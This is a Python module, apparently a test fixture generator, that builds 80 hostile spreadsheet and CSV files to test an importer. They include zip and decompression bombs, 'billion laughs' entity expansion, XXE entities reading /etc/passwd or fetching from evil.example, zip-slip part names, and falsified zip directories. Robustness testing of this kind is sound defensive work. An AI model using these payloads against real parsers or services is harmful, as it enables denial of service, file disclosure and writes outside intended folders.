"""80 files that are made to fill a memory, to take for ever, to climb out of their folder, or to lie."""

import io
import itertools
import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

Make = Callable[[Path], None]

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/></Types>'
)
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SHEET = (
    '<?xml version="1.0"?>{head}<worksheet xmlns="' + _MAIN + '">{dimension}<sheetData>{rows}</sheetData>'
)


def package(
    path: Path, sheet: str | bytes, *, strings: str | bytes = "", more: dict[str, bytes] | None = None
) -> None:
    """The smallest xlsx around one sheet."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
        f'Type="{_RELATION}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATION}"><sheets>'
        '<sheet name="Blad1" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
        f'Type="{_RELATION}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" '
        f'Type="{_RELATION}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": strings or f'<sst xmlns="{_MAIN}"/>',
        **(more or {}),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as new:
        for name, part in parts.items():
            new.writestr(name, part)


def sheet_of(rows: str, *, head: str = "", dimension: str = "") -> str:
    """The xml of a sheet with these rows."""
    return _SHEET.format(head=head, dimension=dimension, rows=rows) + "</worksheet>"


_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>Bedrijf</t></is></c></row>'


def filled(path: Path, *, megabytes: int, sign: bytes = b" ") -> None:
    """A sheet that unpacks to very much of nothing."""
    package(path, sheet_of(_ROW).encode().replace(b"<sheetData>", b"<sheetData>" + sign * megabytes * 10**6))


def long_strings(path: Path, *, megabytes: int) -> None:
    """One shared string without end."""
    text = f'<sst xmlns="{_MAIN}"><si><t>'.encode() + b"A" * megabytes * 10**6 + b"</t></si></sst>"
    package(path, sheet_of('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings=text)


def laughs(path: Path, *, depth: int, where: str) -> None:
    """Entities of entities of entities."""
    names = [f"e{number}" for number in range(depth)]
    first = f'<!ENTITY {names[0]} "hahahahahahaha">'
    others = "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in itertools.pairwise(names))
    head = f"<!DOCTYPE x [{first}{others}]>"
    cell = f'<row r="1"><c r="A1" t="inlineStr"><is><t>&{names[-1]};</t></is></c></row>'
    if where == "sheet":
        package(path, sheet_of(cell, head=head))
    else:
        strings = f'<?xml version="1.0"?>{head}<sst xmlns="{_MAIN}"><si><t>&{names[-1]};</t></si></sst>'
        package(path, sheet_of('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings=strings)


def outside(path: Path, *, target: str) -> None:
    """An entity that asks for a file or an address."""
    head = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'
    package(path, sheet_of('<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>', head=head))


def nested(path: Path, *, depth: int, tag: str) -> None:
    """Elements in elements in elements."""
    package(path, sheet_of(f"<{tag}>" * depth + f"</{tag}>" * depth))


def dimensions(path: Path, *, reference: str, cells: str) -> None:
    """A sheet that says it is as large as can be, with hardly anything in it."""
    package(path, sheet_of(f"{_ROW}{cells}", dimension=f'<dimension ref="{reference}"/>'))


def merged(path: Path, *, many: int, reference: str) -> None:
    """Areas that are merged over and over."""
    areas = "".join(f'<mergeCell ref="{reference}"/>' for _ in range(many))
    sheet = sheet_of(_ROW).replace("</worksheet>", f"<mergeCells>{areas}</mergeCells></worksheet>")
    package(path, sheet)


def many_parts(path: Path, *, many: int) -> None:
    """A package of very many small parts."""
    package(path, sheet_of(_ROW), more={f"xl/media/{number}.png": b"x" for number in range(many)})


def climbing(path: Path, *, name: str) -> None:
    """A part whose name leads out of the package."""
    package(path, sheet_of(_ROW), more={name: b"evil"})


def lying(path: Path, *, size: int) -> None:
    """The sizes in the directory are not those of the parts."""
    filled(path, megabytes=30)
    content = bytearray(path.read_bytes())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", content, at + 24, size)
        at = content.find(b"PK\x01\x02", at + 4)
    path.write_bytes(content)


def in_each_other(path: Path, *, depth: int) -> None:
    """A package in a package in a package."""
    content = b"x" * 10**6
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
            for number in range(5):
                new.writestr(f"{number}.zip", content)
        content = out.getvalue()
    package(path, sheet_of(_ROW), more={"xl/embeddings/in.zip": content})


def overlapping(path: Path, *, many: int) -> None:
    """Many entries of the directory that all point at the same bytes."""
    filled(path, megabytes=20)
    content = path.read_bytes()
    start = content.rfind(b"PK\x05\x06")
    first = content.find(b"PK\x01\x02")
    entries = content[first:start]
    end = bytearray(content[start:])
    count = struct.unpack_from("<H", end, 10)[0] * many
    struct.pack_into("<HHI", end, 8, min(count, 65_535), min(count, 65_535), len(entries) * many)
    path.write_bytes(content[:first] + entries * many + bytes(end))


def text(path: Path, *, content: Callable[[], bytes]) -> None:
    """A csv that is no ordinary one."""
    path.write_bytes(content())


def table_of_ods(path: Path, *, repeated: str) -> None:
    """An ods of one cell that is repeated as often as can be."""
    names = "urn:oasis:names:tc:opendocument:xmlns:"
    content = (
        f'<office:document-content xmlns:office="{names}office:1.0" xmlns:table="{names}table:1.0" '
        f'xmlns:text="{names}text:1.0"><office:body><office:spreadsheet><table:table table:name="B">'
        f'<table:table-row {repeated}><table:table-cell office:value-type="string" '
        f'table:number-columns-repeated="16384"><text:p>Bedrijf</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        f'<manifest:manifest xmlns:manifest="{names}manifest:1.0"><manifest:file-entry '
        f'manifest:full-path="/" manifest:media-type="{kind}"/></manifest:manifest>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("mimetype", kind, zipfile.ZIP_STORED)
        new.writestr("content.xml", content)
        new.writestr("META-INF/manifest.xml", manifest)


def _all() -> Iterator[tuple[str, Make]]:
    for megabytes in (50, 200, 380, 600, 1_000):
        yield f"{megabytes} MB of spaces", partial(filled, megabytes=megabytes)
        yield f"{megabytes} MB in one string", partial(long_strings, megabytes=megabytes)
    for depth in (3, 6, 9, 12, 30):
        yield f"laughs {depth} deep in the sheet", partial(laughs, depth=depth, where="sheet")
        yield f"laughs {depth} deep in the strings", partial(laughs, depth=depth, where="strings")
    for target in ("file:///etc/passwd", "http://127.0.0.1:9/x", "file:///dev/zero", "//evil.example/x"):
        yield f"entity {target}", partial(outside, target=target)
    for depth in (1_000, 100_000, 1_000_000):
        for tag in ("row", "c", "x"):
            yield f"{depth} {tag} in each other", partial(nested, depth=depth, tag=tag)
    for reference, cells in (
        ("A1:XFD1048576", ""),
        ("A1:XFD1048576", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        ("A1:A1", '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
        ("A1:ZZZZZZZ99999999999", '<row r="99999999999"><c r="ZZZZZZZ99999999999"><v>1</v></c></row>'),
        ("", '<row r="-1"><c r="@0"><v>1</v></c></row>'),
        ("B2:A1", '<row r="2"><c r="A2"><v>1e999</v></c></row>'),
    ):
        yield f"{reference} with {cells[:20]}", partial(dimensions, reference=reference, cells=cells)
    for many, reference in ((1, "A1:XFD1048576"), (100_000, "A1:Z99"), (500_000, "A1:A1"), (10, "Z9:A1")):
        yield f"{many} merges of {reference}", partial(merged, many=many, reference=reference)
    for many in (5_500, 30_000, 65_000):
        yield f"{many} parts", partial(many_parts, many=many)
    for name in (
        "../../evil.txt",
        "/tmp/evil.txt",
        "..\\evil.txt",
        "C:\\evil.txt",
        "xl/../../../evil",
        "a\\..\\..\\evil",
        "xl/",
    ):
        yield f"part {name!r}", partial(climbing, name=name)
    for size in (0, 1, 1_000, 2**32 - 2):
        yield f"sizes that say {size}", partial(lying, size=size)
    for depth in (2, 5):
        yield f"{depth} packages in each other", partial(in_each_other, depth=depth)
    for many in (10, 1_000):
        yield f"directory {many} times", partial(overlapping, many=many)
    for times in ("1048576", "999999999", "-1"):
        repeated = f'table:number-rows-repeated="{times}"'
        yield f"ods {times} rows", partial(table_of_ods, repeated=repeated)
    yield from _texts()


def _texts() -> Iterator[tuple[str, Make]]:
    lines = b"Bedrijf;Plaats\r\n"
    for name, content in (
        ("29 MB without an end of line", lambda: b"a" * 29_000_000),
        ("31 MB", lambda: b"a;b\n" * 7_800_000),
        ("5 million columns", lambda: b";" * 5_000_000),
        ("3 million lines", lambda: b"\n" * 3_000_000 + lines),
        ("200,000 lines of one letter", lambda: b"a;b\n" * 200_000),
        ("a quote that is never closed", lambda: lines + b'"' + b"x;y\n" * 2_000_000),
        ("quotes without end", lambda: b'"' * 5_000_000),
        ("zeros", lambda: b"\0" * 5_000_000 + b"x"),
        ("marks only", lambda: b"\xef\xbb\xbf" * 100_000),
        ("half of UTF-16", lambda: b"\xff\xfe" + b"\xd8" * 1_000_001),
        ("control signs", lambda: bytes(range(32)) * 50_000),
        ("a cell of 20 MB", lambda: b'Bedrijf;Plaats\n"' + b"x" * 20_000_000 + b'";Ommen\n'),
        ("carriage returns", lambda: b"Bedrijf;Plaats" + b"\r" * 3_000_000),
        ("sep without a sign", lambda: b"sep=\n" + lines),
        ("a head of a package", lambda: b"PK\x03\x04" + b"\0" * 1_000),
        ("a head of an old workbook", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 100_000),
    ):
        yield name, partial(text, content=content)


BOMBS = tuple(_all())
